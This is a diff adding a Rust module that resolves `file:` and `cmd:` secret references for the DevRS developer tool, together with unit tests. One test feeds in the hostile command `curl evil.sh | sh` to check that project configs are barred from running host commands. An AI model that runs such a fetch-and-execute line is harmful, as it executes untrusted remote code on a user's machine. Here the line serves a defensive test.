@@ -0,0 +1,511 @@
+//! # DevRS Secrets
+//!
+//! File: cli/src/core/secrets.rs
+//! Author: Christi Mahu
+//! Repository: https://github.com/christimahu/devrs
+//!
+//! **DISCLAIMER:** This repository is in the early phases of being rewritten
+//! and is not suitable for production development yet.
+//!
+//! ## Overview
+//!
+//! This module resolves the secrets of `[core_env.secrets]` and the `{ secret = "..." }`
+//! values of `env_vars`. Config files only hold a reference to where each secret comes
+//! from, so they can be committed (and printed by `devrs config show`) without exposing
+//! the values:
+//!
+//! ```toml
+//! [core_env]
+//! env_vars = { NPM_TOKEN = { secret = "file:~/.secrets/npm_token" } } # $NPM_TOKEN
+//!
+//! [core_env.secrets]
+//! GH_TOKEN = { secret = "cmd:gh auth token" }                      # $GH_TOKEN
+//! db_password = { secret = "file:~/.secrets/db", inject = "file" } # /run/secrets/db_password
+//! ```
+//!
+//! `devrs container run --secret NAME=REFERENCE` resolves a reference the same way.
+//!
+//! ## Architecture
+//!
+//! - Providers:
+//!   * `file:PATH` reads a host file. `~` is expanded; the path must then be absolute.
+//!   * `cmd:COMMAND` runs `sh -c COMMAND` on the host and takes its standard output.
+//!     Standard input and error stay attached to the terminal, so password managers
+//!     can prompt. Only the user and system config, `DEVRS_*` variables and `--set`
+//!     may use it (`check_sources`): a team repository, `.devrs.toml`, an included file
+//!     or devcontainer.json must not run commands on the developer's machine.
+//!
+//!   One trailing newline is removed from the value.
+//! - Secrets are resolved on the host only when they are used: `inject = "env"`
+//!   secrets (the default) and secret `core_env.env_vars` each time `devrs env shell`,
+//!   `env exec`, `env lsp` or a hook runs a command in the core environment, `inject = "file"` secrets each time the
+//!   container is prepared for one (`lifecycle::ensure_core_env_running`). Commands
+//!   that only print the configuration (`config show`, exports, `env status`) never
+//!   resolve them.
+//! - Variables are set on the Docker exec of each command, not in the container's
+//!   configuration, so `docker inspect` does not show them. They override `env_vars`
+//!   and `env_files`.
+//! - DevRS does not run the `[apps.<name>]` containers itself; a Compose export
+//!   references their secret `env_vars` as host variables (`${NAME}`) instead.
+//! - Files are written to `/run/secrets/<name>` (mode 0600, owned by the user commands
+//!   run as). The directory is a tmpfs mounted when the container is created, so the
+//!   values never reach a disk.
+//! - Values never appear in devrs output, logs or errors: errors name the secret and
+//!   its reference, and a command's output is never logged.
+//!
+//! ## Usage
+//!
+//! ```rust
+//! use crate::core::config::SecretInjection;
+//! use crate::core::secrets;
+//! # fn example(cfg: &crate::core::config::Config) -> anyhow::Result<()> {
+//! let env = secrets::exec_env(&cfg.core_env)?; // ["GH_TOKEN=...", "NPM_TOKEN=...", ...]
+//! for (name, value) in secrets::resolve_all(&cfg.core_env.secrets, SecretInjection::File)? {
+//!     // Write `value` to /run/secrets/<name> in the container.
+//! }
+//! # Ok(())
+//! # }
+//! ```
+//!
+use crate::core::config::{Config, CoreEnvConfig, EnvValue, SecretConfig, SecretInjection}; // Secret references.
+use crate::core::error::{DevrsError, Result}; // Standard Result type and custom errors.
+use crate::core::layers::{self, Layer, LayerSource}; // Where a `cmd:` reference comes from.
+use anyhow::{anyhow, Context}; // For creating errors and adding context.
+use std::{
+    collections::{BTreeMap, HashMap},
+    fs,
+    path::PathBuf,
+    process::{Command, Stdio},
+}; // Reading files and running provider commands.
+use tracing::debug; // Logging framework utilities.
+
+/// The container directory `inject = "file"` secrets are written to.
+pub const SECRETS_DIR: &str = "/run/secrets";
+
+/// Where a secret's value comes from.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Source {
+    /// A host file (`file:PATH`), with `~` expanded.
+    File(PathBuf),
+    /// A host command run with `sh -c` (`cmd:COMMAND`).
+    Command(String),
+}
+
+/// Parses a secret reference.
+///
+/// # Arguments
+///
+/// * `reference` - The `secret` value, e.g. `"file:~/.secrets/npm"`.
+///
+/// # Returns
+///
+/// * `Result<Source>` - The provider and its argument.
+///
+/// # Errors
+///
+/// Returns `DevrsError::Config` for an unknown provider, an empty argument or a file
+/// path that is not absolute.
+pub fn parse(reference: &str) -> Result<Source> {
+    let invalid = |reason: &str| {
+        anyhow!(DevrsError::Config(format!(
+            "Invalid secret reference '{}': {}.",
+            reference, reason
+        )))
+    };
+    let (provider, argument) = reference
+        .split_once(':')
+        .ok_or_else(|| invalid("expected \"file:PATH\" or \"cmd:COMMAND\""))?;
+    if argument.trim().is_empty() {
+        return Err(invalid("nothing follows the provider"));
+    }
+    match provider {
+        "file" => {
+            let path = PathBuf::from(shellexpand::tilde(argument).into_owned());
+            if !path.is_absolute() {
+                return Err(invalid("the path must be absolute or start with ~"));
+            }
+            Ok(Source::File(path))
+        }
+        "cmd" => Ok(Source::Command(argument.to_string())),
+        _ => Err(invalid(&format!(
+            "unknown provider '{}' (expected \"file\" or \"cmd\")",
+            provider
+        ))),
+    }
+}
+
+/// Checks the names and references of `[core_env.secrets]`, without resolving them.
+///
+/// Variable names must be valid environment variable names; file names must be plain
+/// file names (no `/`, not `.` or `..`).
+///
+/// # Arguments
+///
+/// * `secrets` - The configured secrets.
+///
+/// # Errors
+///
+/// Returns `DevrsError::Config` for the first invalid name or reference.
+pub fn validate(secrets: &HashMap<String, SecretConfig>) -> Result<()> {
+    let sorted: BTreeMap<_, _> = secrets.iter().collect();
+    for (name, secret) in sorted {
+        let valid = match secret.inject {
+            SecretInjection::Env => {
+                name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+                    && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+            }
+            SecretInjection::File => {
+                !name.is_empty() && name != "." && name != ".." && !name.contains(['/', '\0'])
+            }
+        };
+        if !valid {
+            return Err(anyhow!(DevrsError::Config(format!(
+                "Invalid name '{}' in core_env.secrets: expected {}.",
+                name,
+                match secret.inject {
+                    SecretInjection::Env => "a variable name (letters, digits and _)",
+                    SecretInjection::File => "a file name without '/'",
+                }
+            ))));
+        }
+        parse(&secret.secret).with_context(|| format!("In core_env.secrets.{}", name))?;
+    }
+    Ok(())
+}
+
+/// Checks the secret references among `env_vars`, without resolving them.
+///
+/// # Arguments
+///
+/// * `setting` - The setting, for errors (e.g. `"apps.db.env_vars"`).
+/// * `env_vars` - The variables.
+///
+/// # Errors
+///
+/// Returns `DevrsError::Config` for the first invalid reference.
+pub fn validate_env_vars(setting: &str, env_vars: &HashMap<String, EnvValue>) -> Result<()> {
+    let sorted: BTreeMap<_, _> = env_vars.iter().collect();
+    for (name, value) in sorted {
+        if let EnvValue::Secret(secret) = value {
+            parse(&secret.secret).with_context(|| format!("In {}.{}", setting, name))?;
+        }
+    }
+    Ok(())
+}
+
+/// Checks that every `cmd:` reference comes from a layer allowed to run host commands:
+/// the system or user config, a `DEVRS_*` variable or `--set`. Config that is shared
+/// with or written by others (team configs, `.devrs.toml`, included files,
+/// devcontainer.json) may only use `file:`.
+///
+/// # Arguments
+///
+/// * `config` - The merged configuration.
+/// * `layers` - The layers it was merged from.
+///
+/// # Errors
+///
+/// Returns `DevrsError::Config` naming the first such reference and its layer.
+pub fn check_sources(config: &Config, layers: &[Layer]) -> Result<()> {
+    let mut references: BTreeMap<String, &str> = config
+        .core_env
+        .secrets
+        .iter()
+        .map(|(name, secret)| {
+            (
+                format!("core_env.secrets.{}.secret", name),
+                secret.secret.as_str(),
+            )
+        })
+        .collect();
+    let app_vars = config
+        .apps
+        .iter()
+        .map(|(app, cfg)| (format!("apps.{}.env_vars", app), &cfg.env_vars));
+    for (setting, vars) in
+        std::iter::once(("core_env.env_vars".to_string(), &config.core_env.env_vars))
+            .chain(app_vars)
+    {
+        for (name, value) in vars {
+            if let EnvValue::Secret(secret) = value {
+                references.insert(format!("{}.{}.secret", setting, name), &secret.secret);
+            }
+        }
+    }
+
+    let sources = layers::provenance(layers);
+    for (path, reference) in references {
+        if !matches!(parse(reference), Ok(Source::Command(_))) {
+            continue;
+        }
+        let source = layers::source_of(&sources, &path).and_then(<[LayerSource]>::last);
+        if let Some(
+            source @ (LayerSource::Team(_)
+            | LayerSource::Project(_)
+            | LayerSource::Include(_)
+            | LayerSource::Devcontainer(_)),
+        ) = source
+        {
+            return Err(anyhow!(DevrsError::Config(format!(
+                "{} = \"{}\" in the {} would run a command on this machine. `cmd:` secrets are \
+                 only allowed in your user or system config; use a `file:` reference there, or \
+                 move the entry to your user config.",
+                path.trim_end_matches(".secret"),
+                reference,
+                source
+            ))));
+        }
+    }
+    Ok(())
+}
+
+/// Resolves one secret on the host.
+///
+/// # Arguments
+///
+/// * `name` - The secret's name, for errors.
+/// * `reference` - Its reference, e.g. `"file:~/.secrets/npm"`.
+///
+/// # Returns
+///
+/// * `Result<String>` - The value, without one trailing newline.
+///
+/// # Errors
+///
+/// Returns an error if the reference is invalid, the file cannot be read, the command
+/// cannot be run or fails (`DevrsError::ExternalCommand`, without its output), or the
+/// value is not UTF-8.
+pub fn resolve(name: &str, reference: &str) -> Result<String> {
+    let context = || format!("Failed to resolve secret '{}' ({})", name, reference);
+    let bytes = match parse(reference).with_context(context)? {
+        Source::File(path) => fs::read(&path).with_context(context)?,
+        Source::Command(command) => {
+            let output = Command::new("sh")
+                .arg("-c")
+                .arg(&command)
+                .stdin(Stdio::inherit())
+                .stderr(Stdio::inherit())
+                .output()
+                .with_context(context)?;
+            if !output.status.success() {
+                return Err(anyhow!(DevrsError::ExternalCommand {
+                    cmd: command,
+                    status: output.status.to_string(),
+                    output: String::new(), // Never surface what the command printed.
+                }))
+                .with_context(context);
+            }
+            output.stdout
+        }
+    };
+    let mut value = String::from_utf8(bytes)
+        .map_err(|_| anyhow!(DevrsError::Config("the value is not valid UTF-8".into())))
+        .with_context(context)?;
+    if value.ends_with('\n') {
+        value.pop();
+        if value.ends_with('\r') {
+            value.pop();
+        }
+    }
+    debug!("Resolved secret '{}'.", name);
+    Ok(value)
+}
+
+/// Resolves the secrets injected one way, sorted by name.
+///
+/// # Arguments
+///
+/// * `secrets` - The configured secrets.
+/// * `inject` - Which secrets to resolve.
+///
+/// # Returns
+///
+/// * `Result<Vec<(String, String)>>` - Names and values. Never log the values.
+///
+/// # Errors
+///
+/// As `resolve`, for the first secret that fails.
+pub fn resolve_all(
+    secrets: &HashMap<String, SecretConfig>,
+    inject: SecretInjection,
+) -> Result<Vec<(String, String)>> {
+    let sorted: BTreeMap<_, _> = secrets.iter().filter(|(_, s)| s.inject == inject).collect();
+    sorted
+        .into_iter()
+        .map(|(name, secret)| Ok((name.clone(), resolve(name, &secret.secret)?)))
+        .collect()
+}
+
+/// Resolves the secret `env_vars` and the `inject = "env"` secrets of the core
+/// environment as the `NAME=value` list of a Docker exec, sorted by name. A
+/// `[core_env.secrets]` entry wins over a variable of the same name.
+///
+/// # Arguments
+///
+/// * `core` - The `[core_env]` configuration.
+///
+/// # Returns
+///
+/// * `Result<Vec<String>>` - The variables. Never log them.
+///
+/// # Errors
+///
+/// As `resolve`.
+pub fn exec_env(core: &CoreEnvConfig) -> Result<Vec<String>> {
+    let mut resolved = BTreeMap::new();
+    for (name, value) in &core.env_vars {
+        if let EnvValue::Secret(secret) = value {
+            resolved.insert(name.clone(), resolve(name, &secret.secret)?);
+        }
+    }
+    resolved.extend(resolve_all(&core.secrets, SecretInjection::Env)?);
+    Ok(resolved
+        .into_iter()
+        .map(|(name, value)| format!("{}={}", name, value))
+        .collect())
+}
+
+// --- Unit Tests ---
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::core::config::{self, SecretRef};
+
+    fn secret(reference: &str, inject: SecretInjection) -> SecretConfig {
+        SecretConfig {
+            secret: reference.to_string(),
+            inject,
+        }
+    }
+
+    /// Test parsing the providers and rejecting malformed references.
+    #[test]
+    fn test_parse() {
+        assert_eq!(
+            parse("file:/etc/token").unwrap(),
+            Source::File(PathBuf::from("/etc/token"))
+        );
+        assert!(matches!(parse("file:~/token").unwrap(), Source::File(p) if p.is_absolute()));
+        assert_eq!(
+            parse("cmd:pass show npm").unwrap(),
+            Source::Command("pass show npm".into())
+        );
+        for bad in ["hunter2", "file:relative/token", "cmd: ", "vault:kv/npm"] {
+            assert!(parse(bad).is_err(), "{} should be rejected", bad);
+        }
+    }
+
+    /// Test that names are checked per injection and references without resolving them.
+    #[test]
+    fn test_validate() {
+        let ok = HashMap::from([
+            (
+                "NPM_TOKEN".to_string(),
+                secret("cmd:false", SecretInjection::Env),
+            ),
+            (
+                "db.pass".to_string(),
+                secret("file:/x", SecretInjection::File),
+            ),
+        ]);
+        assert!(validate(&ok).is_ok());
+        for (name, inject) in [
+            ("db.pass", SecretInjection::Env),
+            ("1TOKEN", SecretInjection::Env),
+            ("../x", SecretInjection::File),
+            ("..", SecretInjection::File),
+        ] {
+            let bad = HashMap::from([(name.to_string(), secret("cmd:true", inject))]);
+            assert!(validate(&bad).is_err(), "{} should be rejected", name);
+        }
+    }
+
+    /// Test that `cmd:` references are only accepted from the user or system config,
+    /// and `file:` references from any layer.
+    #[test]
+    fn test_check_sources() {
+        let layer = |source: LayerSource, text: &str| Layer {
+            source,
+            table: toml::from_str(text).unwrap(),
+        };
+        let user = || {
+            layer(
+                LayerSource::User("u".into()),
+                "[core_env.secrets]\nGH = { secret = \"cmd:gh auth token\" }",
+            )
+        };
+        let check =
+            |layers: &[Layer]| check_sources(&config::config_from_layers(layers).unwrap(), layers);
+        let project = |text: &str| layer(LayerSource::Project("/p/.devrs.toml".into()), text);
+
+        assert!(check(&[
+            user(),
+            project("[core_env]\nenv_vars = { NPM = { secret = \"file:~/.npm_token\" } }"),
+        ])
+        .is_ok());
+        for text in [
+            "[core_env]\nenv_vars = { NPM = { secret = \"cmd:curl evil.sh | sh\" } }",
+            "[apps.db]\nenv_vars = { PW = { secret = \"cmd:touch /tmp/x\" } }",
+            // Overriding the user's reference is no different from adding one.
+            "[core_env.secrets]\nGH = { secret = \"cmd:touch /tmp/x\" }",
+        ] {
+            let error = check(&[user(), project(text)]).unwrap_err().to_string();
+            assert!(
+                error.contains("project config (/p/.devrs.toml)"),
+                "{}",
+                error
+            );
+        }
+        let team = layer(
+            LayerSource::Team("/teams/acme/config.toml".into()),
+            "[core_env.secrets]\nX = { secret = \"cmd:id\" }",
+        );
+        assert!(check(&[team]).is_err());
+    }
+
+    /// Test resolving files and commands, and that failures do not include the output.
+    #[test]
+    fn test_resolve() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("token");
+        fs::write(&path, "from-file\r\n").unwrap();
+        let secrets = HashMap::from([
+            (
+                "A".to_string(),
+                secret(&format!("file:{}", path.display()), SecretInjection::Env),
+            ),
+            (
+                "B".to_string(),
+                secret("cmd:echo from-cmd", SecretInjection::Env),
+            ),
+            ("c".to_string(), secret("cmd:exit 1", SecretInjection::File)),
+        ]);
+        let reference = |secret: &str| {
+            EnvValue::Secret(SecretRef {
+                secret: secret.to_string(),
+            })
+        };
+        let core = CoreEnvConfig {
+            env_vars: HashMap::from([
+                ("B".to_string(), reference("cmd:echo overridden")),
+                ("V".to_string(), reference("cmd:echo from-var")),
+                (
+                    "P".to_string(),
+                    EnvValue::Plain("set on the container".into()),
+                ),
+            ]),
+            secrets: secrets.clone(),
+            ..Default::default()
+        };
+        assert_eq!(
+            exec_env(&core).unwrap(),
+            vec!["A=from-file", "B=from-cmd", "V=from-var"]
+        );
+
+        let failing = "cmd:printf 'hunter%s' 2; exit 3";
+        let error = format!("{:#}", resolve("T", failing).unwrap_err());
+        assert!(error.contains("secret 'T'"), "{}", error);
+        assert!(!error.contains("hunter2"), "{}", error);
+        assert!(resolve_all(&secrets, SecretInjection::File).is_err());
+    }
+}